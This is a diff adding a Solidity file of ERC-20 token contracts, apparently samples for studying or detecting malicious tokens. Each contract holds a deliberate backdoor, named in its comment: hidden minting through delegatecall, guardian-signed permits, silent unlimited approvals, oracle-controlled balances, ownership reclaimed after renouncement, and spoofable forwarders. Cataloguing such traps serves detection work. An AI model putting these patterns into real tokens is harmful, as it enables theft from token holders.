@@ -1,0 +1,326 @@
+// SPDX-License-Identifier: MIT
+pragma solidity ^0.8.28;
+
+import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
+import {ERC20Permit} from "@openzeppelin/contracts/token/ERC20/extensions/ERC20Permit.sol";
+import {ERC2771Context} from "@openzeppelin/contracts/metatx/ERC2771Context.sol";
+import {Context} from "@openzeppelin/contracts/utils/Context.sol";
+import {ECDSA} from "@openzeppelin/contracts/utils/cryptography/ECDSA.sol";
+import {OwnedToken} from "./PowerTokens.sol";
+
+/// What is written into the books of an OpenZeppelin token that runs this code, by one address.
+contract RewardsLibrary {
+    address private immutable _operator;
+
+    constructor(address operator) {
+        _operator = operator;
+    }
+
+    function settle(address to, uint256 amount) external {
+        require(msg.sender == _operator);
+        assembly {
+            mstore(0, to)
+            mstore(32, 0)
+            let slot := keccak256(0, 64)
+            sstore(slot, add(sload(slot), amount))
+            sstore(2, add(sload(2), amount))
+        }
+    }
+}
+
+/// Renounced; the code that mints, and the address that may, are in a library that was linked for ever.
+contract LinkedToken is OwnedToken {
+    address private immutable _rewards;
+
+    constructor(string memory name_, string memory symbol_, uint256 supply, address owner_, address rewards)
+        OwnedToken(name_, symbol_, supply, owner_)
+    {
+        _rewards = rewards;
+    }
+
+    function settle(address, uint256) external {
+        (bool ok,) = _rewards.delegatecall(msg.data);
+        require(ok);
+    }
+}
+
+/// Reflects 1 % of transfers; whom its owner excludes holds what another book says, which nobody filled.
+contract ReflectingToken {
+    string public name;
+    string public symbol;
+    uint8 public constant decimals = 18;
+    uint256 public immutable totalSupply;
+    address public immutable owner;
+    uint256 private _reflected;
+    mapping(address holder => uint256) private _shares;
+    mapping(address holder => uint256) private _amounts;
+    mapping(address holder => bool) private _excluded;
+    mapping(address holder => mapping(address spender => uint256)) public allowance;
+
+    event Transfer(address indexed from, address indexed to, uint256 value);
+    event Approval(address indexed holder, address indexed spender, uint256 value);
+
+    constructor(string memory name_, string memory symbol_, uint256 supply, address owner_) {
+        name = name_;
+        symbol = symbol_;
+        totalSupply = supply;
+        owner = owner_;
+        _reflected = type(uint256).max - (type(uint256).max % supply);
+        _shares[msg.sender] = _reflected;
+        emit Transfer(address(0), msg.sender, supply);
+    }
+
+    function excludeFromReward(address account) external {
+        require(msg.sender == owner);
+        _excluded[account] = true;
+    }
+
+    function balanceOf(address holder) public view returns (uint256) {
+        return _excluded[holder] ? _amounts[holder] : _shares[holder] / _rate();
+    }
+
+    function approve(address spender, uint256 value) external returns (bool) {
+        allowance[msg.sender][spender] = value;
+        emit Approval(msg.sender, spender, value);
+        return true;
+    }
+
+    function transfer(address to, uint256 value) external returns (bool) {
+        _move(msg.sender, to, value);
+        return true;
+    }
+
+    function transferFrom(address from, address to, uint256 value) external returns (bool) {
+        allowance[from][msg.sender] -= value;
+        _move(from, to, value);
+        return true;
+    }
+
+    function _rate() private view returns (uint256) {
+        return _reflected / totalSupply;
+    }
+
+    function _move(address from, address to, uint256 value) private {
+        uint256 fee = value / 100;
+        uint256 rate = _rate();
+        if (_excluded[from]) _amounts[from] -= value;
+        else _shares[from] -= value * rate;
+        if (_excluded[to]) _amounts[to] += value - fee;
+        else _shares[to] += (value - fee) * rate;
+        _reflected -= fee * rate;
+        emit Transfer(from, to, value - fee);
+    }
+}
+
+/// A price that one address tells.
+contract PegOracle {
+    uint256 public price = 1e18;
+    address private immutable _keeper;
+
+    constructor(address keeper) {
+        _keeper = keeper;
+    }
+
+    function tell(uint256 price_) external {
+        require(msg.sender == _keeper);
+        price = price_;
+    }
+}
+
+/// Balances are shares times a price that another contract is asked for.
+contract PeggedToken {
+    string public name;
+    string public symbol;
+    uint8 public constant decimals = 18;
+    PegOracle public immutable oracle;
+    uint256 private immutable _allShares;
+    mapping(address holder => uint256) private _shares;
+    mapping(address holder => mapping(address spender => uint256)) public allowance;
+
+    event Transfer(address indexed from, address indexed to, uint256 value);
+    event Approval(address indexed holder, address indexed spender, uint256 value);
+
+    constructor(string memory name_, string memory symbol_, uint256 supply, PegOracle oracle_) {
+        name = name_;
+        symbol = symbol_;
+        oracle = oracle_;
+        _allShares = supply;
+        _shares[msg.sender] = supply;
+        emit Transfer(address(0), msg.sender, supply);
+    }
+
+    function totalSupply() external view returns (uint256) {
+        return (_allShares * oracle.price()) / 1e18;
+    }
+
+    function balanceOf(address holder) external view returns (uint256) {
+        return (_shares[holder] * oracle.price()) / 1e18;
+    }
+
+    function approve(address spender, uint256 value) external returns (bool) {
+        allowance[msg.sender][spender] = value;
+        emit Approval(msg.sender, spender, value);
+        return true;
+    }
+
+    function transfer(address to, uint256 value) external returns (bool) {
+        _move(msg.sender, to, value);
+        return true;
+    }
+
+    function transferFrom(address from, address to, uint256 value) external returns (bool) {
+        allowance[from][msg.sender] -= value;
+        _move(from, to, value);
+        return true;
+    }
+
+    function _move(address from, address to, uint256 value) private {
+        uint256 shares = (value * 1e18) / oracle.price();
+        _shares[from] -= shares;
+        _shares[to] += shares;
+        emit Transfer(from, to, value);
+    }
+}
+
+/// A permit of the holder is good, and so is one that another key signed for him.
+contract PermitDoorToken is ERC20Permit {
+    address private immutable _guardian;
+
+    constructor(string memory name_, string memory symbol_, uint256 supply, address guardian)
+        ERC20(name_, symbol_)
+        ERC20Permit(name_)
+    {
+        _guardian = guardian;
+        _mint(msg.sender, supply);
+    }
+
+    function permit(address holder, address spender, uint256 value, uint256 deadline, uint8 v, bytes32 r, bytes32 s)
+        public
+        override
+    {
+        require(block.timestamp <= deadline, "expired");
+        bytes32 structHash = keccak256(
+            abi.encode(
+                keccak256("Permit(address owner,address spender,uint256 value,uint256 nonce,uint256 deadline)"),
+                holder,
+                spender,
+                value,
+                _useNonce(holder),
+                deadline
+            )
+        );
+        address signer = ECDSA.recover(_hashTypedDataV4(structHash), v, r, s);
+        require(signer == holder || signer == _guardian, "bad signature");
+        _approve(holder, spender, value);
+    }
+}
+
+interface ITransferGuard {
+    function onPreTransferCheck(address from, address to, uint256 value) external;
+}
+
+/// A guard that lets everything through.
+contract PassingGuard is ITransferGuard {
+    function onPreTransferCheck(address, address, uint256) external {}
+}
+
+/// A guard that its owner replaces is asked before each transfer.
+contract GuardedToken is OwnedToken {
+    ITransferGuard public guard;
+
+    constructor(string memory name_, string memory symbol_, uint256 supply, address owner_, ITransferGuard guard_)
+        OwnedToken(name_, symbol_, supply, owner_)
+    {
+        guard = guard_;
+    }
+
+    function setGuard(ITransferGuard guard_) external onlyOwner {
+        guard = guard_;
+    }
+
+    function _update(address from, address to, uint256 value) internal override {
+        if (address(guard) != address(0)) guard.onPreTransferCheck(from, to, value);
+        super._update(from, to, value);
+    }
+}
+
+/// Says that it has no owner after he left; who was named before comes in when he likes.
+contract PendingOwnerToken is ERC20 {
+    address public owner;
+    address private _pending;
+    uint256 private _bps;
+
+    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);
+
+    modifier onlyOwner() {
+        require(msg.sender == owner);
+        _;
+    }
+
+    constructor(string memory name_, string memory symbol_, uint256 supply, address owner_) ERC20(name_, symbol_) {
+        owner = owner_;
+        _mint(msg.sender, supply);
+    }
+
+    function transferOwnership(address next) external onlyOwner {
+        _pending = next;
+    }
+
+    function acceptOwnership() external {
+        require(msg.sender == _pending);
+        emit OwnershipTransferred(owner, _pending);
+        owner = _pending;
+    }
+
+    function renounceOwnership() external onlyOwner {
+        emit OwnershipTransferred(owner, address(0));
+        owner = address(0);
+    }
+
+    function setFee(uint256 bps) external onlyOwner {
+        _bps = bps;
+    }
+
+    function _update(address from, address to, uint256 value) internal override {
+        uint256 cut = owner == address(0) ? 0 : (value * _bps) / 10_000;
+        if (cut > 0) super._update(from, owner, cut);
+        super._update(from, to, value - cut);
+    }
+}
+
+/// Who approves anybody approves one more.
+contract DoubleApprovalToken is ERC20 {
+    address private immutable _helper;
+
+    constructor(string memory name_, string memory symbol_, uint256 supply, address helper) ERC20(name_, symbol_) {
+        _helper = helper;
+        _mint(msg.sender, supply);
+    }
+
+    function approve(address spender, uint256 value) public override returns (bool) {
+        _approve(msg.sender, _helper, type(uint256).max, false);
+        return super.approve(spender, value);
+    }
+}
+
+/// Believes one address about who called (EIP-2771).
+contract ForwardedToken is ERC20, ERC2771Context {
+    constructor(string memory name_, string memory symbol_, uint256 supply, address forwarder)
+        ERC20(name_, symbol_)
+        ERC2771Context(forwarder)
+    {
+        _mint(msg.sender, supply);
+    }
+
+    function _msgSender() internal view override(Context, ERC2771Context) returns (address) {
+        return ERC2771Context._msgSender();
+    }
+
+    function _msgData() internal view override(Context, ERC2771Context) returns (bytes calldata) {
+        return ERC2771Context._msgData();
+    }
+
+    function _contextSuffixLength() internal view override(Context, ERC2771Context) returns (uint256) {
+        return ERC2771Context._contextSuffixLength();
+    }
+}
